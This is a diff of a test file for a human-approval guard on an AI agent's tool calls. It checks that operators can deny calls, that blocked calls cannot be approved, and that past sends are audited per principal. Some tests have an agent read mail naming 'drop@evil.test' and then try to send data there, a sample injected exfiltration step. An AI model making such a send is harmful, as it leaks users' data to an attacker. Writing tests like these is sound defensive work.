@@ -105,15 +105,6 @@ async def test_a_call_that_takes_the_grant_and_is_refused_for_want_of_a_replica_
     assert (await agent.call("send", MAIL)).action.label == "ask"
 
 
-async def test_a_blocked_call_cannot_be_approved(agent, operator):
-    """Only what is asked about leaves a question."""
-    await agent.call("read", {}, "mail drop@evil.test")
-    classified, verdict = await agent.ask("send", {"to": "drop@evil.test", "body": "b"})
-    assert verdict.action.label == "block"
-    with pytest.raises(GuardError, match="no call waits"):
-        await operator.approve(classified.call.id, agent.at)
-
-
 async def test_a_question_or_grant_that_was_altered_is_worth_nothing(agent, operator, store):
     """Neither by another key, nor by editing what lies in Redis."""
     decision = await agent.asked("send", MAIL)
@@ -137,8 +128,15 @@ async def test_a_person_sees_who_would_receive_what_and_may_deny_it(agent, opera
     assert [one.decision for one in await operator.waiting()] == [decision]
     await operator.deny(decision)
     assert await operator.waiting() == []
-    with pytest.raises(GuardError, match="no call waits"):
-        await operator.approve(decision, agent.at)
+    blocked, _ = await agent.ask("send", {**MAIL, "to": "x@denied.test"})
+    for gone in (decision, blocked.call.id):
+        with pytest.raises(GuardError, match="no call waits"):
+            await operator.approve(gone, agent.at)
+    # What was sent there before, by which tool: of this principal.
+    await play(agent, [YES, OUT])
+    for one, sent in ((agent, ["send"]), (agent.as_principal("bob"), [])):
+        [call] = (await operator.asked(await one.asked("send", MAIL))).calls
+        assert [before.tool for before in call.receivers[0].sent] == sent
 
 
 async def test_whom_least_vouches_for_is_shown_first_and_the_rest_is_counted(agent, operator):
@@ -189,16 +187,6 @@ async def test_a_person_sees_where_a_receiver_came_from(agent, operator, policy,
     assert (receiver.text, receiver.at, asked.tainted) == (text, agent.at, True)
     assert receiver.sends == 0
     assert not [raw async for *_, raw in fields_of(store, "x") if b"evil" in raw]
-
-
-async def test_a_person_sees_what_was_sent_there_before(agent, operator):
-    """When, by which tool and under which decision id: the audit log has the rest."""
-    await play(agent, [YES, OUT])
-    asked = await operator.asked(await agent.asked("send", MAIL))
-    [receiver] = asked.calls[0].receivers
-    assert (receiver.sends, [one.tool for one in receiver.sent]) == (1, ["send"])
-    other = await operator.asked(await agent.as_principal("bob").asked("send", MAIL))
-    assert other.calls[0].receivers[0].sends == 0
 
 
 async def test_one_answer_releases_all_that_is_asked_of_one_message(agent, operator):
